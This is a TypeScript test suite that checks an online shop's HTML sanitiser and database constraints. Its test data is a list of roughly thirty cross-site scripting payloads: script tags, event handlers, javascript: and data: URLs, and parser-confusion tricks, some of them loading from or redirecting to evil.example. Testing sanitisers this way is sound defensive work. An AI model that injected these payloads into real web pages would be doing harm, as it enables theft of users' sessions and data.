import fc from 'fast-check'
import { sql } from 'kysely'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { newCategory } from '#testing/catalogue-factories.ts'
import { newProduct } from '#testing/factories.ts'
import { testApp, type TestApp } from '#testing/test-app.ts'
import { isSafeHtml, safeHtml } from './safe-html.ts'

let shop: TestApp
beforeAll(async () => {
  shop = await testApp()
})
afterAll(() => shop[Symbol.asyncDispose]())

const marks = new Set('p br ul ol li b strong i em h2 h3 h4 a table thead tbody tr th td blockquote'.split(' '))

/** Parses without the shop's regular expressions; returns every tag with its name and attributes. */
function tagsOf(html: string): { readonly name: string; readonly rest: string }[] {
  const tags: { name: string; rest: string }[] = []
  for (let at = html.indexOf('<'); at !== -1; at = html.indexOf('<', at + 1)) {
    const end = html.indexOf('>', at)
    const inside = html.slice(at + 1, end === -1 ? undefined : end).replace(/^\//, '')
    const name = inside.split(/[\s/]/)[0] ?? ''
    tags.push({ name, rest: inside.slice(name.length).trim() })
  }
  return tags
}

/** Reasons why a browser might do more than display it; empty when it cannot. */
function dangersOf(html: string): string[] {
  return tagsOf(html).flatMap(({ name, rest }) => {
    if (!marks.has(name)) return [`<${name}>`]
    if (name !== 'a') return rest === '' || rest === '/' ? [] : [`${name} ${rest}`]
    const href = /^href="([^"]*)"/.exec(rest)?.[1] ?? ''
    const others = rest.replace(/^href="[^"]*"/, '').trim()
    const isOther = others !== '' && others !== 'rel="noopener nofollow"'
    const scheme = /^[^/?#]*?:/.exec(href.replaceAll(/[\s\p{Cc}]/gu, '').toLowerCase())?.[0]
    const isForeign = scheme !== undefined && !['http:', 'https:', 'mailto:'].includes(scheme)
    return [...(isOther ? [`a ${others}`] : []), ...(isForeign ? [href] : [])]
  })
}

const attacks = [
  '<script>steal()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=steal()>',
  '<svg/onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<math><mi//xlink:href="data:x,<script>steal()</script>">',
  '<a href="javascript:steal()">x</a>',
  '<a href=" &#106;ava&#115;cript&colon;steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:steal()" onclick="steal()">x</a>',
  '<p style="background:url(javascript:steal())">x</p>',
  '<p onclick=steal()>x</p>',
  '<style>@import "//evil.example"</style>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="javascript:steal()"></object>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><button>x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<!--><img src=x onerror=steal()>-->',
  '<p title="a>b" onmouseover="steal()">x</p>',
  '<a href="https://x.example/"onclick=steal()>x</a>',
  '<<script>script>steal()<</script>/script>',
  '<p/onclick=steal()>',
  '<a href="https://x.example/&quot; onclick=&quot;steal()">x</a>',
  '<plaintext>',
  '<textarea><img src=x onerror=steal()></textarea>',
  '<xmp><p onclick=steal()></xmp>',
  '<![CDATA[<img src=x onerror=steal()>]]>',
]

test.each(attacks)('%s can do nothing but be read', (attack) => {
  expect(dangersOf(safeHtml(attack))).toEqual([])
  expect(dangersOf(safeHtml(`<p>before</p>${attack}<p>after</p>`))).toEqual([])
})

const piece = fc.oneof(
  fc.constantFrom(...attacks),
  fc.constantFrom('<', '>', '"', "'", '&', '/', '=', ' ', '\n', '\0', '<!--', '-->', '<![CDATA[', ']]>', '<?', '</'),
  fc.constantFrom(
    'script',
    'style',
    'onerror',
    'href',
    'javascript:',
    'p',
    'a',
    'br',
    'svg',
    'rel="noopener nofollow"',
  ),
  fc.constantFrom('<p>', '</p>', '<a href="', '">', '<b>', '<br>', '<td', '&lt;', '&#x3c;', '&colon;', 'a:b'),
  fc.string({ maxLength: 12, unit: 'grapheme' }),
)
const html = fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join(''))

test('removes every script, handler, style, foreign URL and unknown tag from any input', () => {
  fc.assert(
    fc.property(html, (text) => {
      const safe = safeHtml(text)
      expect(dangersOf(safe)).toEqual([])
      expect(safeHtml(safe)).toBe(safe)
    }),
    { numRuns: 2000 },
  )
})

test('leaves plain text and its formatting unchanged', () => {
  const plain =
    '<h2>Care</h2><p>Dry &amp; cool, 5 &lt; 6<br />and <strong>flat</strong></p><ul><li>one</li></ul>' +
    '<table><thead><tr><th>S</th></tr></thead></table><a href="https://x.example/?a=1&amp;b=2" rel="noopener nofollow">x</a>' +
    '<a href="/category/Women-10">here</a>'
  expect(safeHtml(plain)).toBe(plain)
  expect(safeHtml('<h1>Care</h1><div>Soft</div>')).toBe('<h2>Care</h2><p>Soft</p>')
})

test('the database judges as the sanitiser does', async () => {
  const samples = [...fc.sample(html, { numRuns: 300, seed: 7 }), ...attacks].map((text) => text.replaceAll('\0', ''))
  const both = samples.flatMap((text) => [text, safeHtml(text)])
  const { rows } = await sql<{ text: string; isSafe: boolean }>`
    select text, is_safe_html(text) as "isSafe" from unnest(${both}::text[]) as given (text)`.execute(shop.db)
  expect(rows.filter(({ text, isSafe }) => isSafe !== isSafeHtml(text))).toEqual([])
  expect(rows.filter(({ text, isSafe }) => isSafe && dangersOf(text).length > 0)).toEqual([])
  expect(rows.filter(({ isSafe }) => !isSafe).length).toBeGreaterThan(attacks.length)
})

test('a product is written through the sanitiser, whatever its source', async () => {
  const { id } = await newProduct(shop.db, { description: '<p onclick="steal()">Soft</p><script>steal()</script>' })
  const row = shop.db.selectFrom('products').select('description').where('id', '=', id)
  expect((await row.executeTakeFirstOrThrow()).description).toBe('<p>Soft</p>')
})

test.each(['<img src=x onerror=steal()>', '<p onclick="steal()">x</p>', '<a href="javascript:steal()">x</a>'])(
  'no other path writes %s into a row that pages show as HTML',
  async (attack) => {
    const id = await newCategory(shop.db, { name: 'Sarees' })
    const refusal = { code: '23514' }
    const { db } = shop
    await expect(
      db.updateTable('categories').set({ description: attack }).where('id', '=', id).execute(),
    ).rejects.toMatchObject(refusal)
    await expect(db.insertInto('products').values({ name: 'x', description: attack }).execute()).rejects.toMatchObject(
      refusal,
    )
    const post = { slug: 'x', title: 'x', author: 'x', short_description: '<p>x</p>', body: '<p>x</p>' }
    for (const part of ['short_description', 'body']) {
      await expect(
        db
          .insertInto('posts')
          .values({ ...post, [part]: attack })
          .execute(),
      ).rejects.toMatchObject(refusal)
    }
  },
)
